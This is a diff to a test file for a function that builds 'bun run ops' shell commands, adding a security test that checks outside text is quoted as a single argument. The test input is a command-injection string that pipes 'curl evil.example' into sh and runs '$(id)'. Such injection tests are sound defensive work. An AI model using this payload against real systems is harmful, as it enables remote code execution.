@@ -33,3 +33,11 @@ test('every rule has a command, whatever its item', () => {
     for (const item of [payment, cashout, transfer, 'treasury', 'lane:0x1'])
       expect(commandFor({ id: '7', rule: name, item, amount: 1n })).toMatch(/^bun run ops [a-z-]+/)
 })
+
+test('security: text from outside is one word of the command, whatever it contains', () => {
+  const item = "invoice.paid;curl evil.example|sh;'$(id)'"
+  const command = commandFor({ id: '7', rule: 'provider_unknown', item, amount: 5n })
+  expect(command).toBe(
+    `bun run ops unexplained accept 'invoice.paid;curl evil.example|sh;'\\''$(id)'\\''' --reason <why>`,
+  )
+})
